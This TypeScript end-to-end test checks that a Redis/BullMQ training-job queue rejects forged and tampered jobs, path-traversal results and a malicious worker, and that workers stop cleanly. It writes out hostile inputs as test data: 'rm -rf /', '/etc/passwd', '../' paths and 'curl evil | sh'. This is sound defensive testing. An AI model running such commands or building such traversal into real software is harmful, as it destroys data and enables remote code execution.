/**
 * Nothing on the wire is trusted. A worker given jobs that are not ours, changed on the way, or
 * naming paths, fails each for good (no retry) and keeps working, writing only in its work folder.
 * A coordinator given results that would write outside the sweep folder records them as failed and
 * writes nothing. And a worker told to stop finishes its run; told twice, it hands the run back.
 * Real redis-server, real processes; the hostile side is a BullMQ producer or worker in this test.
 */
import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Queue, Worker } from 'bullmq';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { loadDataset } from '../../src/data/dataset.js';
import { JOB_OPTIONS, type JobData, QUEUE_NAME, QUEUE_PREFIX } from '../../src/remote/job.js';
import { contentId } from '../../src/sweep/content-id.js';
import { parseCsv } from '../../src/util/csv.js';
import { runCli } from '../helpers/cli.js';
import { coordinatorFolder, startTestWorker, type TestWorker } from '../helpers/queue-worker.js';
import { type RedisHandle, startRedis } from '../helpers/redis-server.js';

const SMALL = 'data.trainSize: 3000, data.testSize: 200, train.batchSize: 64, model.layers.1.units: 32';

let root: string;
let redis: RedisHandle;
let queue: Queue;
let workers: TestWorker[] = [];
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'queue-trust-'));
  redis = await startRedis();
  queue = new Queue(QUEUE_NAME, { connection: { port: redis.port }, prefix: QUEUE_PREFIX });
});
afterEach(async () => {
  for (const w of workers) w.signal('SIGKILL');
  await Promise.all(workers.map((w) => w.exited));
  workers = [];
  await queue.obliterate({ force: true });
});
afterAll(async () => {
  await queue?.close();
  await redis?.stop();
});

const worker = async (name: string, dir: string, env: NodeJS.ProcessEnv = {}) => {
  const w = await startTestWorker(redis.url, join(root, dir, name), name, ['--backend', 'cpu'], env);
  workers.push(w);
  return w;
};

const coordinator = (name: string, body: string) => coordinatorFolder(root, name, body);

const sweep = (dir: string, name: string) =>
  runCli(['sweep', `${name}.sweep.yaml`, '--queue', redis.url, '--code-version', 'e2e'], { cwd: dir });

const index = async (dir: string, name: string) =>
  parseCsv(await readFile(join(dir, 'sweeps', name, 'index.csv'), 'utf8')).slice(1);

/** A job as a coordinator would send it, for `config`, its id its content. */
async function honest(config: string): Promise<{ id: string; data: JobData }> {
  const d = await loadDataset({ trainSize: 1, testSize: 1 });
  const data: JobData = {
    v: 1,
    sweep: 'trust',
    label: 'x',
    config,
    dataSha256: d.files.map((f) => f.sha256),
    codeVersion: 'e2e',
  };
  return { id: contentId({ resolvedYaml: config, dataSha256: data.dataSha256, codeVersion: 'e2e' }), data };
}

const TINY = `seed: 1
data: { path: /etc, trainSize: 200, testSize: 50 }
model:
  layers: [{ type: flatten }, { type: dense, units: 10 }, { type: activation, activation: softmax }]
loss: categoricalCrossentropy
optimizer: { type: adam }
train: { epochs: 1 }
`;

describe('a worker given jobs off the wire', () => {
  it('fails for good what is not an honest job, trains an honest one on its own data, and writes only in its work folder', async () => {
    const w = await worker('w', 'jobs');
    const good = await honest(TINY);
    const changed = { ...good.data, config: TINY.replace('units: 10', 'units: 11') };
    const hostile: [string, unknown, RegExp][] = [
      ['../../../../tmp/evil', good.data, /^job id \.\.\/\.\.\/\.\.\/\.\.\/tmp\/evil is not a run id$/],
      [
        '0123456789abcdef',
        { ...good.data, run: 'rm -rf /' },
        /^not an mnist-run job: the value: Unrecognized key: "run"$/,
      ],
      ['fedcba9876543210', { ...good.data, dataSha256: ['/etc/passwd'] }, /^not an mnist-run job: dataSha256\[0\]/],
      [good.id.replace(/^./, (c) => (c === '0' ? '1' : '0')), good.data, /hashes to [0-9a-f]{16}, not to its id/],
      [good.id, changed, /it was changed on the way/],
    ];
    for (const [id, data] of hostile) await queue.add('trust', data, { ...JOB_OPTIONS, jobId: id });
    for (const [id, , why] of hostile) {
      const e = await w.waitFor((x) => x.event === 'failed' && x.job === id, 60_000);
      expect(e.error).toMatch(why);
      expect(e.retry).toBe(false);
    }
    // The honest job, which names /etc as its data: the worker trains on its own copy of that data.
    await queue.obliterate({ force: true });
    await queue.add('trust', good.data, { ...JOB_OPTIONS, jobId: good.id });
    const done = await w.waitFor((x) => x.event === 'finished' && x.job === good.id, 120_000);
    expect(done.status).toBe('completed');
    expect(await readdir(w.cwd)).toEqual(['mnist-run-work']);
    expect(await readdir(join(w.cwd, 'mnist-run-work'))).toEqual(['worker.log']);
    await expect(readdir('/tmp/evil')).rejects.toThrow();
    expect(w.events.filter((e) => e.event === 'started').map((e) => e.job)).toEqual([good.id]);
  }, 240_000);
});

describe('a coordinator given results off the wire', () => {
  it('records a result that would write outside the sweep folder as failed, and writes nothing', async () => {
    const dir = await coordinator('results', `set: { ${SMALL}, train.epochs: 1 }\ngrid:\n  seed: [1, 2, 3]\n`);
    const result = (files: unknown[], validatedOnly = false) => ({
      v: 1,
      worker: 'mallory',
      codeVersion: 'e2e',
      validatedOnly,
      manifest: { v: 1, key: 'k1', files, gzipBytes: 0 },
      trainMs: 1,
      uploadMs: 1,
    });
    const sha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'; // of nothing
    const answers = [
      result([{ path: '../../../escaped.txt', bytes: 0, sha256: sha, chunks: 1 }]),
      result([{ path: 'run/notes.txt', bytes: 0, sha256: sha, chunks: 1 }]), // its chunk was never uploaded
      { exec: 'curl evil | sh' },
    ];
    let n = 0;
    const mallory = new Worker(QUEUE_NAME, async () => answers[n++], {
      connection: { port: redis.port, maxRetriesPerRequest: null },
      prefix: QUEUE_PREFIX,
      name: 'mallory',
    });
    try {
      const res = await sweep(dir, 'results');
      expect(res.code, res.stderr).toBe(1);
      const errors = (await index(dir, 'results')).map((r) => [r[3], r[9]]);
      expect(errors).toEqual([
        [
          'failed',
          expect.stringMatching(
            /^its result is not an mnist-run result: manifest\.files\[0\]\.path: "\.\.\/\.\.\/\.\.\/escaped\.txt" has a "\.\." segment$/,
          ),
        ],
        [
          'failed',
          expect.stringMatching(/^its result from mallory is unusable: .*chunk 0 is missing \(expired or deleted\)/),
        ],
        ['failed', expect.stringMatching(/^its result is not an mnist-run result: v: Invalid input: expected 1$/)],
      ]);
      expect(await readdir(join(dir, 'sweeps', 'results', 'runs'))).toEqual([]);
      expect(await readdir(root)).not.toContain('escaped.txt');
      expect((await readdir(dir, { recursive: true })).filter((f) => f.includes('escaped'))).toEqual([]);
    } finally {
      await mallory.close();
    }
  }, 240_000);
});

describe('a worker told to stop', () => {
  it('finishes its run on SIGTERM and takes no other; told twice, hands its run back at once', async () => {
    const dir = await coordinator('stop', `set: { ${SMALL}, train.epochs: 4 }\ngrid:\n  seed: [1, 2, 3]\n`);
    const going = sweep(dir, 'stop');
    const first = await worker('first', 'stop');
    const a = await first.waitFor((e) => e.event === 'child');
    first.signal('SIGTERM');
    expect(await first.exited).toBe(0);
    expect(first.events.map((e) => e.event).slice(-3)).toEqual(['stopping', 'finished', 'stopped']);
    expect(first.events.filter((e) => e.event === 'started')).toHaveLength(1);
    expect(first.events.find((e) => e.event === 'finished')).toMatchObject({ job: a.job, status: 'completed' });

    const second = await worker('second', 'stop'); // default lock: 30 s before a dead worker's job returns
    const b = await second.waitFor((e) => e.event === 'child');
    second.signal('SIGTERM');
    await second.waitFor((e) => e.event === 'stopping');
    second.signal('SIGTERM');
    await second.waitFor((e) => e.event === 'abandoned' && e.job === b.job, 60_000);
    expect(await second.exited).toBe(0);
    // Handed back at once: waiting for the next worker now, not still active under the dead
    // worker's 30 s lock. Read from Redis, so a slow machine cannot make it look late.
    expect(['delayed', 'waiting']).toContain(await queue.getJobState(String(b.job)));
    const third = await worker('third', 'stop');
    const again = await third.waitFor((e) => e.event === 'started' && e.job === b.job, 60_000);
    expect(again.attempt).toBe(1); // handing back spent no attempt
    const res = await going;
    expect(res.code, res.stderr).toBe(0);
    expect((await index(dir, 'stop')).map((r) => r[3])).toEqual(['completed', 'completed', 'completed']);
  }, 300_000);
});
